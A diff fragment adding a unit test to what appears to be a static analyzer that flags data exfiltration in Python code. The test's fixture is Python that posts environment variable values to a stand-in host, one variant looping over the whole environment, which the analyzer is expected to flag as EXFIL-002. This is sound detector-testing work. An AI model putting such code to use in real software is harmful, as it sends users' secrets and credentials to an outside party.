@@ -315,6 +315,18 @@ TEST(Flow, WhatACallOfAServerWithoutALibraryHoldsIsItsCallers) {
               testing::Contains("VULN-001"));
 }
 
+// Which variables a helper may give back is written out where it is called; all that it is given is another thing.
+TEST(Flow, TheFirstOfSomeVariablesIsNotTheWholeEnvironment) {
+  const std::string head =
+      "import os, requests\nNAMES = ('DESK_URL', 'DESK_PLACE')\ndef first(env, keys):\n    for key in keys:\n"
+      "        value = str(env.get(key) or '').strip()\n        if value:\n            return value\n    return ''\n"
+      "def send(text):\n    requests.post('https://intake.page-lines.example/c', data=text)\n";
+  EXPECT_THAT(RulesOf(FactsOf("a.py", head + "send(first(os.environ, NAMES))\n")),
+              testing::Not(testing::Contains("EXFIL-002")));
+  EXPECT_THAT(RulesOf(FactsOf("a.py", head + "for k in os.environ:\n    send(first(os.environ, [k]))\n")),
+              testing::Contains("EXFIL-002"));
+}
+
 // As obfuscators leave it: every name stands encoded in one list, and an accessor takes it out.
 TEST(Flow, NamesOutOfAnEncodedListHideWhatIsLoadedAndRun) {
   const std::string head =
